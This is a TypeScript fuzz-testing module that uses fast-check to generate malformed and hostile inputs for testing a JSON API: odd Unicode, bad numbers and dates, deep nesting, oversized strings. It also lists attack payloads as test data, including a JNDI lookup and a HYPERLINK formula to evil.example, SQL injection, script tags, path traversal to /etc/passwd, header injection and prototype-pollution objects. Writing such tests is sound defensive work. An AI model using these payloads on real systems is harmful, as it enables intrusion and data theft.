/** Unexpected values from attackers, broken clients or unlucky people. */
import fc from 'fast-check'
import { RawJson } from './json-text.ts'

const LONE_SURROGATE = '\uD83D'
const PROTOTYPE_NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty'] as const

/** Texts that are valid in most fields but break careless code. */
export const STRANGE_TEXTS: readonly string[] = [
  ...PROTOTYPE_NAMES,
  LONE_SURROGATE,
  `a${LONE_SURROGATE}b\uDE00`,
  '💥',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧‍👦 🇨🇷',
  'a\0b',
  '\u202Egpj.exe\u202C',
  '\u2066left\u2069 \u200Fright',
  'zero\u200Bwidth\uFEFF',
  `e${'\u0301'.repeat(40)}`,
  '\u0007\u001B[31m',
  'line\r\nset-cookie: a=b',
  'one\u2028two\u2029three',
  '=HYPERLINK("http://evil.example")',
  '@SUM(1;2)',
  '\t-1+1',
  '../../etc/passwd',
  '%00%2e%2e',
  '%',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template language would fill in
  '${jndi:ldap://evil.example}',
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)><p>Hello',
  'null',
  'undefined',
  'NaN',
  'İstanbul ß ﬃ',
]

/** Texts that are valid elsewhere, but not in the field. */
const WRONG_TEXTS: readonly string[] = [
  '',
  ' ',
  '\0',
  '-0',
  '1e3',
  '1e999',
  '0x10',
  'Infinity',
  '٣',
  '9'.repeat(400),
  '2026-02-30',
  '2026-13-01',
  '0000-01-01',
  '0001-01-01',
  '9999-12-31',
  '-000001-01-01',
  '+275760-09-13',
  '2026-11-22T25:00:00Z',
  '9999-12-31T23:59:59.999+99:99',
  '99:99',
  '0'.repeat(24),
  'f'.repeat(24),
  'F'.repeat(24),
  'f'.repeat(23),
  '０'.repeat(24),
  'ab'.repeat(3000),
  '💥'.repeat(300),
  ','.repeat(300),
]

/** A megabyte of text: rare, because it is slow. */
const MEGABYTE = 'x'.repeat(1_000_000)

export const hostileText = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 20, arbitrary: fc.constantFrom(...STRANGE_TEXTS, ...WRONG_TEXTS) },
    { weight: 10, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
    { weight: 1, arbitrary: fc.constant(MEGABYTE) },
  )

const raw = (text: string) => new RawJson(text)
const NUMBERS = ['1e999', '-1e999', '1e-999', '-0', '-1', '0.1', '1e21', '9007199254740993', `1${'0'.repeat(400)}`]
const OBJECTS = [
  '{}',
  '[]',
  '[null]',
  '["a"]',
  '[8]',
  '[[[[]]]]',
  `${'['.repeat(500)}${']'.repeat(500)}`,
  `${'{"a":'.repeat(500)}1${'}'.repeat(500)}`,
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"constructor":1}',
  '{"toString":1,"valueOf":1}',
  '{"toString":null,"_id":null}',
  '{"_id":"toString"}',
  '{"_id":{"_id":"x"}}',
  '{"_id":[]}',
  '{"_id":7}',
  '{"length":1e9}',
  '{"then":1}',
  '{"toJSON":1}',
  '{"a":1,"a":2}',
  '"\\ud83d"',
  '"\\u0000"',
]

/** Any JSON, most of it wrong everywhere. */
export const hostileJson = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    { weight: 3, arbitrary: hostileText() },
    { weight: 2, arbitrary: fc.constantFrom(...NUMBERS, ...OBJECTS).map(raw) },
    { weight: 1, arbitrary: fc.constantFrom<unknown>(null, true, false, 0, 8, 1.5) },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
  )

/** The values that break code most often; few, so that each field gets each of them. */
export const nastyJson = (): fc.Arbitrary<unknown> =>
  fc.constantFrom<unknown>(...[...NUMBERS, ...OBJECTS].map(raw), LONE_SURROGATE, '\0', '', '__proto__', null, true)

export const hostileName = (): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom(...PROTOTYPE_NAMES, '', 'a.b', 'a[b]', '$where', LONE_SURROGATE, '_id', 'version', 'createdBy'),
    fc.string({ maxLength: 8 }),
  )

/** Header values that HTTP allows: one line, no surrogates, a few kilobytes. */
export const hostileHeader = (): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom(
      '',
      '0',
      '-1',
      '"',
      '"1"',
      'W/"1"',
      '*',
      '1e3',
      '"999999999"',
      '"9999999999"',
      'null',
      ...PROTOTYPE_NAMES,
    ),
    fc.constantFrom('x'.repeat(201), 'x'.repeat(8000), 'ÿ', 'a,b', '127.0.0.1:80', 'e30', 'eyJrdHkiOiJFQyJ9'),
    fc.string({ unit: 'grapheme-ascii', maxLength: 30 }),
  )
